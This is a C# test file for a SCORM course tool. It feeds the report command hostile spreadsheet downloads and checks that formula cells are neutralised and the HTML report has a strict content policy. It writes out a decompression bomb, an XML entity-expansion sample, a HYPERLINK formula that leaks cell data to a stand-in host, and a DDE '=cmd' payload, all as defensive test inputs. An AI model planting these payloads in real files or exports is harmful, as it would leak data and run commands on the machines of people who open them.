using System.IO.Compression;
using System.Text;
using CivilSociety.Scorm.Cli;
using CivilSociety.Scorm.Reports;
using CivilSociety.Scorm.Tables;
using CivilSociety.Scorm.Tests.Infrastructure;
using FluentAssertions;
using static CivilSociety.Scorm.Tests.Reports.MoodleLayout;

namespace CivilSociety.Scorm.Tests.Reports;

/// <summary>
/// `report` on downloads made by a hostile learner or a careless teacher, each made small by the test (never committed
/// as a bomb): the code, the exit status, no internal error, and no CSV cell a spreadsheet would evaluate.
/// </summary>
public sealed class HostileDownloadTests
{
    private const string Ods = """<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="Report">{0}</table:table></office:spreadsheet></office:body></office:document-content>""";

    private const string Header = "Name\tEmail address\tAttempt\tStarted on\tLast accessed on\tScore\tThe course";

    public static TheoryData<string, string, int> Attacks() => new()
    {
        { "space-count-of-two-billion.ods", "SCO8011", 1 },
        { "whitespace-bomb.ods", "SCO8010", 1 },
        { "cell-at-column-ZZZZZZ.xlsx", "SCO8011", 1 },
        { "cells-repeated-past-the-last-column.ods", "SCO8011", 1 },
        { "rows-of-cells-out-to-XFD.xlsx", "SCO8011", 1 },
        { "many-filled-cells-in-a-row.ods", "SCO8011", 1 },
        { "entity-expansion.ods", "SCO8012", 1 },
        { "random-bytes.xlsx", "SCO8013", 1 },
        { "empty.xlsx", "SCO8013", 1 },
        { "text-named.ods", "SCO8013", 1 },
        { "latin-1.csv", "SCO8014", 1 },
        { "quote-never-closed.csv", "SCO8011", 1 },
        { "text-before-the-zip.ods", "SCO8015", 0 },
        { "php-warnings-before-the-table.txt", "SCO8015", 0 },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void A_hostile_download_is_a_coded_diagnostic_and_never_a_formula(string name, string code, int exit)
    {
        using var temp = new TempDirectory();
        var path = temp.File(name);
        File.WriteAllBytes(path, Make(name));
        var csv = temp.File("report.csv");

        var (exitCode, output) = Run("report", Repository.Sample("every-question-type"), "--moodle", path, "--format", "csv", "-o", csv);

        output.Should().Contain(code).And.Contain($"'{name}'").And.NotContain("internal error").And.NotContain("Exception");
        exitCode.Should().Be(exit, output);
        File.Exists(csv).Should().Be(exit == 0, "an error writes nothing");
        if (File.Exists(csv))
        {
            FormulaCells(File.ReadAllText(csv)).Should().BeEmpty();
        }
    }

    [Fact]
    public void A_learners_answer_that_is_a_formula_is_neutralised_in_the_csv()
    {
        const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Evaporation\")";
        Attempt Learner(string name, string response) => new(name, $"{name.Trim('=', '+', '-', '@')}@example.org", 1, "",
            [("stages.q-name", response, "evaporation", "wrong"), ("stages.q-clouds", "-2+3", "b", "wrong")], []);
        using var temp = new TempDirectory();
        var interactions = temp.File("interactions.txt");
        File.WriteAllText(interactions, Interactions([Learner("=cmd|' /C calc'!A0", Hyperlink), Learner("+Ann", Hyperlink), Learner("@Bo", "-1"), Learner("-Cy", "\tx")]));
        var csv = temp.File("report.csv");

        var (exitCode, output) = Run("report", Repository.Sample("every-question-type"), "--moodle", interactions, "--format", "csv", "-o", csv);

        exitCode.Should().Be(0, output);
        var text = File.ReadAllText(csv);
        FormulaCells(text).Should().BeEmpty();
        var question = DelimitedText.Read(text.TrimStart('\uFEFF')).Single(r => r[0] == "question" && r[5] == "stages.q-name");
        question[12].Should().Be("'" + Hyperlink, "the most chosen wrong answer is kept, as text");
        DelimitedText.Read(text.TrimStart('\uFEFF')).Where(r => r[0] == "mastery").Select(r => r[2]).Distinct()
            .Should().BeEquivalentTo("'=cmd|' /C calc'!A0", "'+Ann", "'@Bo", "'-Cy");
    }

    [Fact]
    public void The_decoder_and_the_coverage_csv_neutralise_formulas_too()
    {
        using var course = new CourseBuilder()
            .With("course.yml", CourseBuilder.ValidCourseYml.Replace("Know the first thing", "=cmd|' /C calc'!A0", StringComparison.Ordinal))
            .With("sections/one.md", CourseBuilder.SectionOne.Replace("- [ ] The second", "- [ ] @SUM(1+1)", StringComparison.Ordinal));
        var coverage = Path.Combine(course.Directory, "coverage.csv");

        Run("build", course.Directory, "-o", course.OutputPath).Code.Should().Be(0);
        Run("coverage", course.Directory, "--format", "csv", "-o", coverage).Code.Should().Be(0);

        var decoder = File.ReadAllText(Path.ChangeExtension(course.OutputPath, null) + ".decoder.csv");
        FormulaCells(decoder).Should().BeEmpty();
        decoder.Should().Contain(",'=cmd|' /C calc'!A0,");
        FormulaCells(File.ReadAllText(coverage)).Should().BeEmpty();
        File.ReadAllText(coverage).Should().Contain("LO1,'=cmd|' /C calc'!A0,");
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+Ann", "'+Ann")]
    [InlineData("-Cy", "'-Cy")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("  =1+1", "'  =1+1")]
    [InlineData("＝1+1", "'＝1+1")]
    [InlineData("-5", "-5")]
    [InlineData("+2.5", "+2.5")]
    [InlineData("-1e3", "-1e3")]
    [InlineData("-1+2", "'-1+2")]
    [InlineData("66.7", "66.7")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    public void Cells_a_spreadsheet_would_evaluate_get_an_apostrophe_and_numbers_stay_numbers(string cell, string written)
    {
        CsvWriter.Neutralise(cell).Should().Be(written);
    }

    [Fact]
    public void The_html_report_has_a_strict_policy_and_no_control_characters()
    {
        using var temp = new TempDirectory();
        var interactions = temp.File("interactions.txt");
        File.WriteAllText(interactions, Interactions([new("Ann\0 \u001b[31mLee\u0007", "ann@example.org", 1, "", [("stages.q-name", "vapour\u0001\u001b]0;x\u0007", "evaporation", "wrong")], [])]));
        var html = temp.File("report.html");

        var (exitCode, output) = Run("report", Repository.Sample("every-question-type"), "--moodle", interactions, "-o", html);

        exitCode.Should().Be(0, output);
        var page = File.ReadAllText(html);
        page.Where(c => char.IsControl(c) && c is not ('\n' or '\t' or '\r')).Should().BeEmpty();
        page.Should().Contain("Ann [31mLee").And.NotContain("<script").And.NotContain("style=\"");
        var policy = System.Text.RegularExpressions.Regex.Match(page, "<meta http-equiv=\"Content-Security-Policy\" content=\"([^\"]+)\">").Groups[1].Value;
        policy.Should().StartWith("default-src 'none'; style-src 'sha256-").And.NotContain("unsafe").And.NotContain("script-src");
        var style = System.Text.RegularExpressions.Regex.Match(page, "<style>(.*?)</style>", System.Text.RegularExpressions.RegexOptions.Singleline).Groups[1].Value;
        policy.Should().Contain(Convert.ToBase64String(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(style))), "the style element is allowed by its hash");
    }

    /// <summary>Cells that start like a formula and are no number: none may be written.</summary>
    internal static IEnumerable<string> FormulaCells(string csv) =>
        DelimitedText.Read(csv.TrimStart('\uFEFF')).SelectMany(row => row)
            .Where(cell => cell.Length > 0 && CsvWriter.IsFormulaStart(cell.TrimStart(' ').FirstOrDefault(' ')) && CsvWriter.Neutralise(cell) != cell);

    private static byte[] Make(string name) => name switch
    {
        "space-count-of-two-billion.ods" => OdsZip(Row(Header.Split('\t')) + "<table:table-row><table:table-cell><text:p>=A<text:s text:c=\"2000000000\"/></text:p></table:table-cell></table:table-row>"),
        "whitespace-bomb.ods" => WhitespaceBomb(),
        "cell-at-column-ZZZZZZ.xlsx" => Xlsx("<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Name</t></is></c><c r=\"ZZZZZZ1\"><v>1</v></c></row>"),
        "cells-repeated-past-the-last-column.ods" => OdsZip(Row(Header.Split('\t')) + "<table:table-row><table:table-cell table:number-columns-repeated=\"2000000000\"><text:p>=1+1</text:p></table:table-cell></table:table-row>"),
        "rows-of-cells-out-to-XFD.xlsx" => Xlsx(XlsxHeader() + string.Concat(Enumerable.Range(2, 1300).Select(r => $"<row r=\"{r}\"><c r=\"XFD{r}\" t=\"inlineStr\"><is><t>=1+1</t></is></c></row>"))),
        "many-filled-cells-in-a-row.ods" => OdsZip(Row(Header.Split('\t')) + "<table:table-row>" + string.Concat(Enumerable.Repeat("<table:table-cell><text:p>@x</text:p></table:table-cell>", 20_000)) + "</table:table-row>"),
        "entity-expansion.ods" => DelimitedTextTests.Zip(("content.xml", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>" + string.Format(System.Globalization.CultureInfo.InvariantCulture, Ods, Row("&b;")))),
        "empty.xlsx" => [],
        "random-bytes.xlsx" => [.. Enumerable.Range(0, 1024).Select(i => (byte)new Random(i).Next(256))],
        "text-named.ods" => Encoding.UTF8.GetBytes(Header + "\n"),
        "latin-1.csv" => [.. Encoding.UTF8.GetBytes(Header + "\n\"Ann L"), 0xE9, .. Encoding.UTF8.GetBytes("e\"\ta@b\t1\tx\ty\t\t\n")],
        "quote-never-closed.csv" => Encoding.UTF8.GetBytes(Header + "\n\"=Ann\t" + new string('x', 200_000)),
        "text-before-the-zip.ods" => [.. Encoding.UTF8.GetBytes("<br />\n<b>Warning</b>:  Undefined property: stdClass::$scoid in <b>report.php</b> on line <b>634</b><br />\n"),
            .. OdsZip(Row(Header.Split('\t')) + Row("=HYPERLINK(\"http://evil.example/\")", "-@x", "1", "x", "y", "", "Incomplete"))],
        "php-warnings-before-the-table.txt" => Encoding.UTF8.GetBytes("<br />\n<b>Warning</b>:  Undefined property: stdClass::$scoid in <b>report.php</b> on line <b>634</b><br />\n\uFEFF"
            + Interactions([new("=Ann", "ann@example.org", 1, "", [("stages.q-name", "@evaporating", "evaporation", "wrong")], [])])),
        _ => throw new ArgumentException(name),
    };

    private static string Row(params string[] cells) =>
        "<table:table-row>" + string.Concat(cells.Select(c => $"<table:table-cell><text:p>{System.Security.SecurityElement.Escape(c)}</text:p></table:table-cell>".Replace("&amp;b;", "&b;", StringComparison.Ordinal))) + "</table:table-row>";

    private static byte[] OdsZip(string rows) => DelimitedTextTests.Zip(("content.xml", string.Format(System.Globalization.CultureInfo.InvariantCulture, Ods, rows)));

    private static string XlsxHeader() =>
        "<row r=\"1\">" + string.Concat(Header.Split('\t').Select((h, i) => $"<c r=\"{(char)('A' + i)}1\" t=\"inlineStr\"><is><t>{h}</t></is></c>")) + "</row>";

    private static byte[] Xlsx(string rows) => DelimitedTextTests.Zip(
        ("xl/workbook.xml", """<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Report" sheetId="1" r:id="rId1"/></sheets></workbook>"""),
        ("xl/_rels/workbook.xml.rels", """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="worksheet" Target="worksheets/sheet1.xml"/></Relationships>"""),
        ("xl/worksheets/sheet1.xml", $"""<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"""));

    /// <summary>A content.xml of 600 MB of spaces inside a table, compressed as it is written (a few hundred kB).</summary>
    private static byte[] WhitespaceBomb()
    {
        var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("content.xml", CompressionLevel.Fastest).Open();
            var parts = string.Format(System.Globalization.CultureInfo.InvariantCulture, Ods, "\u0000").Split('\u0000');
            entry.Write(Encoding.UTF8.GetBytes(parts[0]));
            var spaces = new byte[1024 * 1024];
            Array.Fill(spaces, (byte)' ');
            for (var i = 0; i < 600; i++)
            {
                entry.Write(spaces);
            }

            entry.Write(Encoding.UTF8.GetBytes(parts[1]));
        }

        return memory.ToArray();
    }

    private static (int Code, string Output) Run(params string[] args)
    {
        var writer = new StringWriter();
        return (CliApplication.Run(args, writer, writer), writer.ToString());
    }
}
